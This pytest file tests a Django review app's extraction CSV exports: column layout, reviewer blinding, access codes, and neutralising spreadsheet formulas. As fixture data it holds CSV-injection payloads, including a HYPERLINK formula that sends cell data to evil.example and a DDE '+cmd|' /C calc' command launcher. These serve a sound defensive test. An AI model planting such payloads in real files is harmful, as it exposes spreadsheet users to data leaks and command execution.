"""Extraction CSV exports: stable columns, one row per study (consensus) or per reviewer and study (raw), the long
outcome data; UTF-8 with a BOM that the csv module reads back; formula-safe cells with numbers left numeric;
who gets which rows (blinding) through the API and the page download."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from core.csv_safe import csv_lines, safe_cell
from extraction.default_form import DEFAULT_SECTIONS
from extraction.services import extracting as X
from extraction.services import studies as S

pytestmark = pytest.mark.django_db

HOSTILE_LABEL = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
REQUIRED = {
    "methods_design": "Crossover RCT",
    "participants_condition": "Cancer pain",
    "outcomes_reported": "Pain intensity",
}


def required_values(study) -> dict:
    values = dict(REQUIRED)
    for arm in study.arms.all():
        values |= {
            f"participants_randomised@{arm.pk}": arm.randomised,
            f"participants_completed@{arm.pk}": arm.completed,
            f"interventions_description@{arm.pk}": arm.intervention or arm.name,
        }
    return values


@pytest.fixture
def extracted(cast, seed):
    """carol and erin extracted Mercadante 2000 completely (agreeing, with hostile text and negative numbers);
    carol alone started Hardy 2012; the worker compared Mercadante."""
    rid = cast.review.pk
    low, high, placebo = (seed.arm(seed.mercadante, n) for n in ("Ketamine 0.25", "Ketamine 0.5", "Placebo"))
    for user in (cast.carol, cast.erin):
        extraction = X.extraction_start(user=user, review_id=rid, study_id=seed.mercadante.pk)
        X.extraction_save(
            user=user, review_id=rid, extraction_id=extraction.pk, version=None,
            values=required_values(seed.mercadante) | {
                "notes": "@SUM(1)", "methods_setting": "+cmd|' /C calc'!A0", "methods_funding": "-2+3",
                f"participants_age@{low.pk}": "-1.5", f"participants_age@{placebo.pk}": "61.50",
                "notes_contacted": "yes",
            },
        )  # fmt: skip
        X.outcome_data_save(
            user=user, review_id=rid, extraction_id=extraction.pk, version=None,
            rows=[
                {"comparison": seed.comparison.pk, "outcome": seed.pain_giv.pk, "subgroup": "0.25 mg/kg",
                 "arm_1": low.pk, "arm_2": placebo.pk, "estimate": "-1.5", "se": "0.52", "note": "=1+1"},
                {"comparison": seed.comparison.pk, "outcome": seed.pain_giv.pk, "subgroup": "0.5 mg/kg",
                 "arm_1": high.pk, "arm_2": placebo.pk, "estimate": "-2.40", "se": "0.62"},
            ],
        )  # fmt: skip
        X.extraction_set_status(user=user, review_id=rid, extraction_id=extraction.pk, version=None, status="complete")
    hardy = X.extraction_start(user=cast.carol, review_id=rid, study_id=seed.hardy.pk)
    X.extraction_save(
        user=cast.carol, review_id=rid, extraction_id=hardy.pk, version=None,
        values={"participants_condition": "Cancer pain"},
    )  # fmt: skip
    X.compare(study_id=seed.mercadante.pk, form_id=seed.form.pk)
    return seed


def read(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    content = b"".join(response.streaming_content)
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM, once
    text = content.decode("utf-8")
    assert text.count("\ufeff") == 1
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def header(response) -> list[str]:
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return next(csv.reader(io.StringIO(content)))


def export_url(review, kind: str) -> str:
    return f"/api/v1/reviews/{review.pk}/extraction.csv?kind={kind}"


def field_columns(arms: int) -> list[str]:
    return [
        name
        for section in DEFAULT_SECTIONS
        for field in section["fields"]
        for name in (
            [f"{field['key']}[arm {k}]" for k in range(1, arms + 1)] if field.get("per_arm") else [field["key"]]
        )
    ]


STUDY_COLUMNS = [
    "study_id", "study", "design", "report_ids", "primary_report_id", "primary_report_title", "primary_report_year",
    "arm_count", "arm_1_name", "arm_2_name", "arm_3_name",
]  # fmt: skip


def test_consensus_csv_has_stable_columns_and_a_row_per_study(cast, extracted, api):
    response = api("bob").get(export_url(cast.review, "consensus"))
    assert 'filename="review-' in response["Content-Disposition"]
    rows = read(response)
    assert list(rows[0]) == STUDY_COLUMNS + field_columns(3)
    assert [r["study"] for r in rows] == ["Hardy 2012", "Mercadante 2000", "Yang 1996"]
    hardy, mercadante, yang = rows
    assert hardy["participants_condition"] == ""  # carol's value is not the consensus
    assert (mercadante["arm_count"], mercadante["arm_1_name"], mercadante["arm_3_name"]) == (
        "3",
        "Ketamine 0.25",
        "Placebo",
    )
    assert (hardy["arm_count"], hardy["arm_3_name"]) == ("2", "")
    assert mercadante["design"] == "crossover" and mercadante["study_id"] == str(extracted.mercadante.pk)
    assert mercadante["participants_randomised[arm 1]"] == "10" and mercadante["participants_completed[arm 3]"] == "10"
    assert mercadante["participants_age[arm 1]"] == "-1.5"  # a number: not neutralised
    assert mercadante["participants_age[arm 2]"] == "" and mercadante["participants_age[arm 3]"] == "61.50"
    assert mercadante["notes_contacted"] == "yes" and mercadante["methods_design"] == "Crossover RCT"
    assert mercadante["interventions_description[arm 3]"] == "Saline"
    assert yang["participants_condition"] == "" and yang["arm_1_name"] == "Ketamine"


def test_raw_csv_has_a_row_per_reviewer_and_study(cast, extracted, api):
    rows = read(api("bob").get(export_url(cast.review, "raw")))
    assert list(rows[0])[:15] == [*STUDY_COLUMNS, "reviewer", "status", "version", "form_version"]
    assert list(rows[0])[15:] == field_columns(3)
    assert [(r["study"], r["reviewer"], r["status"]) for r in rows] == [
        ("Hardy 2012", "carol", "in_progress"),
        ("Mercadante 2000", "carol", "complete"),
        ("Mercadante 2000", "erin", "complete"),
    ]
    assert rows[0]["participants_condition"] == "Cancer pain" and rows[0]["version"] == "2"
    assert rows[1]["form_version"] == "1" and rows[2]["participants_age[arm 1]"] == "-1.5"


def test_outcome_data_csv_is_long_with_consensus_and_reviewers_rows(cast, extracted, api):
    rows = read(api("bob").get(export_url(cast.review, "outcome_data")))
    assert list(rows[0]) == [
        "study_id", "study", "reviewer", "comparison_id", "comparison", "intervention", "control", "outcome_id",
        "outcome", "outcome_type", "direction", "unit", "timepoint", "subgroup", "arm_1", "arm_2", "events_1",
        "total_1", "events_2", "total_2", "mean_1", "sd_1", "mean_2", "sd_2", "estimate", "se", "note",
    ]  # fmt: skip
    assert [(r["study"], r["reviewer"], r["subgroup"]) for r in rows] == [
        ("Mercadante 2000", "", "0.25 mg/kg"),
        ("Mercadante 2000", "", "0.5 mg/kg"),
        ("Mercadante 2000", "carol", "0.25 mg/kg"),
        ("Mercadante 2000", "carol", "0.5 mg/kg"),
        ("Mercadante 2000", "erin", "0.25 mg/kg"),
        ("Mercadante 2000", "erin", "0.5 mg/kg"),
    ]
    carol_high = rows[3]
    assert (carol_high["estimate"], carol_high["se"], carol_high["events_1"]) == ("-2.4", "0.62", "")
    assert (carol_high["arm_1"], carol_high["arm_2"], carol_high["outcome_type"]) == ("Ketamine 0.5", "Placebo", "giv")
    assert rows[2]["note"] == "'=1+1"
    assert rows[0]["comparison"] == "Ketamine versus placebo" and rows[0]["outcome"] == "Pain intensity (paired)"


def test_cells_are_formula_safe_and_numbers_stay_numbers(cast, extracted, api):
    S.study_create(user=cast.bob, review_id=cast.review.pk, label=HOSTILE_LABEL)
    response = api("bob").get(export_url(cast.review, "raw"))
    raw_text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(raw_text, newline="")))
    mercadante = next(r for r in rows if r["study"] == "Mercadante 2000")
    assert mercadante["notes"] == "'@SUM(1)"
    assert mercadante["methods_setting"] == "'+cmd|' /C calc'!A0"
    assert mercadante["methods_funding"] == "'-2+3"
    assert mercadante["participants_age[arm 1]"] == "-1.5"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or Decimal(value) < 0, value
    consensus = read(api("bob").get(export_url(cast.review, "consensus")))
    assert [r["study"] for r in consensus if r["study"].startswith("'")] == ["'" + HOSTILE_LABEL]
    assert f"'{HOSTILE_LABEL}".replace('"', '""') in b"".join(
        api("bob").get(export_url(cast.review, "consensus")).streaming_content
    ).decode("utf-8")


@pytest.mark.parametrize(
    "value,cell",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1.5", "'-1.5"),  # text that looks like a number is still text
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Cancer pain", "Cancer pain"),
        ("", ""),
        (None, ""),
        (True, "true"),
        (-3, -3),
        (Decimal("-1.5"), Decimal("-1.5")),
        (-0.25, -0.25),
        (float("nan"), "nan"),
        (float("-inf"), "'-inf"),
        (Decimal("-Infinity"), "'-Infinity"),
    ],
)
def test_safe_cell(value, cell):
    assert safe_cell(value) == cell


def test_csv_lines_start_with_a_bom_and_quote_what_needs_quoting():
    lines = list(csv_lines([["a", "b"], ['say "hi"', Decimal("-2.5")], ["line\nbreak", "=x"]]))
    assert lines[0] == "\ufeffa,b\r\n"
    text = "".join(lines)
    assert list(csv.reader(io.StringIO(text[1:], newline=""))) == [
        ["a", "b"],
        ['say "hi"', "-2.5"],
        ["line\nbreak", "'=x"],
    ]
    assert list(csv_lines([])) == ["\ufeff"]


# --- who gets what ------------------------------------------------------------------------------------------------


def test_a_blinded_reviewer_gets_only_their_own_rows_and_no_consensus(cast, extracted, api):
    carol = api("carol")
    raw = read(carol.get(export_url(cast.review, "raw")))
    assert {r["reviewer"] for r in raw} == {"carol"} and len(raw) == 2
    data = read(carol.get(export_url(cast.review, "outcome_data")))
    assert {r["reviewer"] for r in data} == {"carol"}
    refused = carol.get(export_url(cast.review, "consensus"))
    assert refused.status_code == 403 and "blinded" in refused.json()["detail"]
    # unblinded, everyone gets everything
    S.settings_update(user=cast.alice, review_id=cast.review.pk, version=None, blinded=False)
    assert {r["reviewer"] for r in read(carol.get(export_url(cast.review, "raw")))} == {"carol", "erin"}
    assert len(read(carol.get(export_url(cast.review, "consensus")))) == 3


@pytest.mark.parametrize("who,code", [("anonymous", 401), ("dave", 404), ("carol", 200), ("bob", 200), ("alice", 200)])
def test_api_export_matrix(cast, extracted, api, who, code):
    response = api(who).get(export_url(cast.review, "raw"))
    assert response.status_code == code
    if code != 200:
        assert "Mercadante" not in response.content.decode()


def test_api_export_kind_and_accept(cast, extracted, api):
    client = api("bob")
    assert client.get(f"/api/v1/reviews/{cast.review.pk}/extraction.csv").status_code == 400
    wrong = client.get(export_url(cast.review, "everything"))
    assert wrong.status_code == 400 and "kind" in wrong.json()["errors"]
    assert len(read(client.get(export_url(cast.review, "raw"), HTTP_ACCEPT="text/csv"))) == 3
    other = client.get(export_url(cast.other_review, "raw"))
    assert other.status_code == 404


@pytest.mark.parametrize(
    "who,kind,code",
    [
        ("bob", "consensus", 200),
        ("alice", "outcome_data", 200),
        ("carol", "raw", 200),
        ("carol", "consensus", 403),
        ("dave", "raw", 404),
        ("bob", "everything", 404),
        ("anonymous", "raw", 302),
    ],
)
def test_page_download(cast, extracted, web, who, kind, code):
    response = web(who).get(reverse("extraction:export", args=[cast.review.pk, kind]))
    assert response.status_code == code
    if code == 200:
        assert (
            response["Content-Disposition"] == f'attachment; filename="review-{cast.review.pk}-extraction-{kind}.csv"'
        )
        assert read(response)
    if code == 302:
        assert "/accounts/login/" in response["Location"]


def test_exports_take_a_constant_number_of_queries(cast, extracted, api, django_assert_max_num_queries):
    client = api("bob")
    for n in range(10):
        study = S.study_create(user=cast.bob, review_id=cast.review.pk, label=f"Extra {n}")
        S.arm_create(user=cast.bob, review_id=cast.review.pk, study_id=study.pk, name="A")
        X.extraction_start(user=cast.carol, review_id=cast.review.pk, study_id=study.pk)
    for kind in ("consensus", "raw", "outcome_data"):
        with django_assert_max_num_queries(12):
            response = client.get(export_url(cast.review, kind))
            content = b"".join(response.streaming_content)
        assert content.count(b"Extra ") >= (10 if kind != "outcome_data" else 0)
